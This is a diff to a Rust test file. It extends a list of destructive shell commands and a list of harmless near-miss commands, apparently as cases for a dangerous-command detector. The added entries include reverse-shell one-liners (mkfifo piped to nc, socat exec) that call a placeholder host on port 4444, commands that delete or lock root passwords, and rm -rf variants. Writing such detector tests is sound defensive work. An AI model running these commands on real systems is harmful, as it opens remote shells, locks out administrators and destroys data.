@@ -87,6 +87,15 @@ const DESTRUCTIVE: &[&str] = &[
     "sh -i 5<> /dev/tcp/203.0.113.5/4444",
     "nc -e /bin/sh 203.0.113.5 4444",
     "nc -nv 203.0.113.5 4444 -e /bin/bash",
+    "mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f",
+    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/bash -i 2>&1|nc 203.0.113.5 4444 >/tmp/f",
+    "socat exec:'bash -li',pty tcp:203.0.113.5:4444",
+    "sudo passwd -d ann",
+    "passwd -l root",
+    "usermod -L root",
+    "passwd --delete root",
+    "!rm -rf data",
+    "%sh rm -rf data",
 ];
 
 #[test]
@@ -150,6 +159,11 @@ const HARMLESS: &[&str] = &[
     "function f() { return g() | h() }",
     "f(){ g | h & }",
     "const x = () => { a | b }",
+    "bash -i build.sh | nc logs.corp.io 514",
+    "socat exec:ls tcp-listen:80",
+    "socat tcp:a.io:80 stdout",
+    "passwd -S root",
+    "passwd -l ann",
     "Our docs say that curl https://x.sh | bash is risky.",
     "Reboot the server when you are done.",
 ];
